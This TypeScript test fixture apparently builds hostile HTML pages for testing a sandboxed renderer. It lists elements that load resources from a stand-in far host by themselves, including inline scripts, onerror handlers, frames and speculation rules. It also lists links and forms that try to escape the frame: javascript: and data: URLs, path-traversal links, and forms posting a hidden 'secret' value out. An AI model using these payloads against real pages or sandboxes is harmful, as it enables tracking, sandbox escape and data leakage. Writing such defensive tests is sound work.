import type { FixedAnswer } from '../../src/protocol/setup.ts'

export const EVIL = 'https://evil.example'
export const FAR = 'https://far.example'
/** A name that pages only ask to be looked up. */
export const LOOKED_UP = 'looked-up.example'

/** What a page may hold that loads something by itself, each with a host of its own to be told apart. */
export const LOADS: Readonly<Record<string, string>> = {
  image: `<img src="${FAR}/image.png" alt="">`,
  'responsive image': `<img srcset="${FAR}/small.png 1x, ${FAR}/large.png 2x" alt="">`,
  picture: `<picture><source srcset="${FAR}/source.webp"><img src="${FAR}/picture.png" alt=""></picture>`,
  'image over http': '<img src="http://far.example/plain.png" alt="">',
  'style sheet': `<link rel="stylesheet" href="${FAR}/style.css">`,
  'imported style': `<style>@import url("${FAR}/import.css"); body { background: url("${FAR}/background.png") }</style>`,
  'style attribute': `<p style="background-image: url(${FAR}/attribute.png)">text</p>`,
  font: `<style>@font-face { font-family: far; src: url("${FAR}/font.woff2") } p { font-family: far }</style><p>text</p>`,
  script: `<script src="${FAR}/script.js"></script><script type="module" src="${FAR}/module.js"></script>`,
  'inline script': `<script>new Image().src = "${FAR}/inline.png"; location.href = "${FAR}/"</script>`,
  'event handler': `<img src="" alt="" onerror="new Image().src = '${FAR}/handler.png'">`,
  preload: `<link rel="preload" as="image" href="${FAR}/preload.png"><link rel="modulepreload" href="${FAR}/modulepreload.js">`,
  prefetch: `<link rel="prefetch" href="${FAR}/prefetch"><link rel="prerender" href="${FAR}/prerender">`,
  preconnect: `<link rel="preconnect" href="${FAR}"><link rel="preconnect" href="${FAR}" crossorigin>`,
  'name look-up': `<meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="//${LOOKED_UP}"><a href="https://${LOOKED_UP}/">x</a>`,
  icon: `<link rel="icon" href="${FAR}/favicon.ico"><link rel="apple-touch-icon" href="${FAR}/touch.png">`,
  manifest: `<link rel="manifest" href="${FAR}/site.webmanifest">`,
  frame: `<iframe src="${FAR}/frame" title="far"></iframe><iframe srcdoc="&lt;img src='${FAR}/srcdoc.png'&gt;" title="doc"></iframe>`,
  'frame without credentials': `<iframe credentialless src="${FAR}/bare-frame" title="bare"></iframe><iframe credentialless srcdoc="&lt;img src='${FAR}/bare.png'&gt;" title="bare doc"></iframe>`,
  'frame that looks like a style': `<iframe title="<style>"\nclass=url(/&src=${FAR}/style-frame)></iframe>`,
  'nested frames': '<iframe src="https://evil.example/" title="itself"></iframe>',
  object: `<object data="${FAR}/object" type="text/html"></object><embed src="${FAR}/embed" type="text/html">`,
  media: `<video src="${FAR}/video.mp4" poster="${FAR}/poster.png" autoplay muted></video><audio src="${FAR}/audio.mp3" autoplay></audio><video><track default src="${FAR}/track.vtt"></video>`,
  vector: `<svg><use href="${FAR}/sprite.svg#x"/><image href="${FAR}/vector.png"/><filter id="f"><feImage href="${FAR}/filter.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
  base: `<base href="${FAR}/base/"><img src="relative.png" alt=""><a href="relative">x</a>`,
  'refresh to another host': `<meta http-equiv="refresh" content="0; url=${FAR}/refresh">`,
  'speculation rules': `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${FAR}/speculated"]}],"prerender":[{"source":"list","urls":["${FAR}/prerendered"]}]}</script>`,
  'input image': `<form><input type="image" src="${FAR}/button.png" alt="x"></form>`,
  'old attributes': `<table background="${FAR}/table.png"><tr><td>x</td></tr></table><body background="${FAR}/body.png">`,
  portal: `<portal src="${FAR}/portal"></portal><fencedframe src="${FAR}/fenced"></fencedframe>`,
}

/** A link or form, and the simulated request that pressing it makes. */
export interface WayOut {
  readonly content: string
  /** Method and URL; none where the press leads nowhere. */
  readonly request?: string
}

/** Links and forms that try to leave the frame, the window or the program; each by the name that it is pressed by. */
export const WAYS_OUT: Readonly<Record<string, WayOut>> = {
  'link to a new window': {
    content: `<a href="${FAR}/" target="_blank">link to a new window</a>`,
    request: `GET ${FAR}/`,
  },
  'link with an opener': {
    content: `<a href="${FAR}/" target="_blank" rel="opener">link with an opener</a>`,
    request: `GET ${FAR}/`,
  },
  'link to the top': {
    content: `<a href="${FAR}/" target="_top">link to the top</a>`,
    request: `GET ${FAR}/`,
  },
  'link to the parent': {
    content: `<a href="${FAR}/" target="_parent">link to the parent</a>`,
    request: `GET ${FAR}/`,
  },
  'link to a named window': {
    content: `<a href="${FAR}/" target="elsewhere">link to a named window</a>`,
    request: `GET ${FAR}/`,
  },
  'link to this frame': { content: `<a href="${FAR}/">link to this frame</a>`, request: `GET ${FAR}/` },
  'link without a scheme': {
    content: '<a href="//far.example/">link without a scheme</a>',
    request: `GET ${FAR}/`,
  },
  'link over http': {
    content: '<a href="http://far.example/">link over http</a>',
    request: 'GET http://far.example/',
  },
  'link with a ping': {
    content: `<a href="${EVIL}/ping" ping="${FAR}/ping ${FAR}/ping-2">link with a ping</a>`,
    request: `GET ${EVIL}/ping`,
  },
  'link to a download': { content: `<a href="${FAR}/file.bin" download>link to a download</a>` },
  'link with a script': {
    content: '<a href="javascript:top.location.href=\'https://far.example/\'">link with a script</a>',
  },
  'link to data': { content: '<a href="data:text/html,<script>top.location=1</script>">link to data</a>' },
  'link to mail': { content: '<a href="mailto:far@far.example">link to mail</a>' },
  'link beyond the root': {
    content: '<a href="../../../../../../../../beyond">link beyond the root</a>',
    request: `GET ${EVIL}/beyond`,
  },
  'link to the workbench': {
    content: '<a href="/../../worker.js">link to the workbench</a>',
    request: `GET ${EVIL}/worker.js`,
  },
  'area of a map': {
    content: `<map name="m"><area shape="default" href="${FAR}/" target="_blank" alt="area of a map"></map><img usemap="#m" width="90" height="20" alt="picture" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>">`,
    request: `GET ${FAR}/`,
  },
  'form to a new window': {
    content: form('form to a new window', `action="${FAR}/" target="_blank"`),
    request: `GET ${FAR}/?secret=1`,
  },
  'posted form to a new window': {
    content: form('posted form to a new window', `action="${FAR}/" method="post" target="_blank"`),
    request: `POST ${FAR}/`,
  },
  'posted form to the top': {
    content: form('posted form to the top', `action="${FAR}/" method="post" target="_top"`),
    request: `POST ${FAR}/`,
  },
  'posted form to the parent': {
    content: form('posted form to the parent', `action="${FAR}/" method="post" target="_parent"`),
    request: `POST ${FAR}/`,
  },
  'posted form to this frame': {
    content: form(
      'posted form to this frame',
      `action="${FAR}/" method="post" enctype="multipart/form-data"`,
    ),
    request: `POST ${FAR}/`,
  },
  'form to a named frame': {
    content: `<iframe name="inner" title="inner"></iframe>${form('form to a named frame', `action="${FAR}/" target="inner"`)}`,
    request: `GET ${FAR}/?secret=1`,
  },
  'button with its own target': {
    content: `<form action="${EVIL}/"><button formaction="${FAR}/" formtarget="_blank" formmethod="post">button with its own target</button></form>`,
    request: `POST ${FAR}/`,
  },
  'link under a base': {
    content: `<base href="${FAR}/" target="_blank"><a href="relative">link under a base</a>`,
    request: `GET ${EVIL}/relative`,
  },
  'link in a vector': {
    content: `<svg width="200" height="30"><a href="${FAR}/" target="_top"><text y="20">link in a vector</text></a></svg>`,
    request: `GET ${FAR}/`,
  },
}

function form(name: string, attributes: string): string {
  return `<form ${attributes}><input type="hidden" name="secret" value="1"><button>${name}</button></form>`
}

/** A page with this in its body. */
export function hostilePage(content: string): FixedAnswer {
  return {
    body: `<!doctype html><html lang="en"><head><title>Evil</title></head><body>${content}</body></html>`,
  }
}
